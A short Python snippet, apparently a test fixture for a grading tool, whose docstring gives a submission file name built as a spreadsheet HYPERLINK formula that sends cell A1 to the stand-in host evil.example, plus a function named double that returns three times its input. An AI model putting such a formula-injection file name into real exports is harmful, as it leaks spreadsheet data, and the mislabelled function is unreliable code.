r"""Is handed in under a name that a spreadsheet would compute.

verdict = ["failed", "failed", "passed"]
file = "=HYPERLINK(\"https:∕∕evil.example?\"&A1,\"grade\").ipynb"
"""

# %%
def double(x):
    return 3 * x
